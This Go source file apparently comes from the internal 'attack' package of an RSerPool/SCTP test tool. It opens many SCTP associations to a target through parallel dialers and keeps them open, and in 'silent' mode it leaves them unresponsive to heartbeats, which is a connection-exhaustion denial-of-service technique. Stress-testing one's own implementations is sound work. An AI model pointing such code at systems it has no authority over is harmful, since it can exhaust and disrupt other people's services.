package attack

import (
	"context"
	"sync"

	"github.com/rserpool-go/rserpool/internal/attack/rawsctp"
)

const dialers = 8

// keepAssociations opens associations, and keeps them up until the end of the attack. The silent ones answer no heartbeat.
func keepAssociations(silent bool) method {
	return func(ctx context.Context, w *work) error {
		up := make(chan *rawsctp.Association, w.Associations)
		if err := w.dialAll(ctx, up); err != nil {
			return err
		}
		close(up)
		w.note("associations", int64(len(up)))
		var serving sync.WaitGroup
		for a := range up {
			serving.Go(func() {
				defer a.Close()
				if silent {
					<-ctx.Done()
					return
				}
				if a.Serve(ctx, rawsctp.Habit{Acknowledge: true, Window: rawsctp.DefaultWindow}).Ended {
					w.note("associations ended by the target", 1)
				}
			})
		}
		serving.Wait()
		return nil
	}
}

// dialAll opens the associations of an attack, a few at a time. It fails only if none comes up.
func (w *work) dialAll(ctx context.Context, up chan<- *rawsctp.Association) error {
	next := make(chan int, w.Associations)
	for k := range w.Associations {
		next <- k
	}
	close(next)
	var failure error
	var failed sync.Mutex
	var all sync.WaitGroup
	for range dialers {
		all.Go(func() {
			for k := range next {
				if ctx.Err() != nil {
					return
				}
				a, err := rawsctp.Dial(ctx, w.source(k), w.to)
				if err != nil {
					w.note("failed associations", 1)
					failed.Lock()
					failure = err
					failed.Unlock()
					continue
				}
				w.count(1)
				up <- a
			}
		})
	}
	all.Wait()
	if len(up) == 0 {
		return failure
	}
	return nil
}
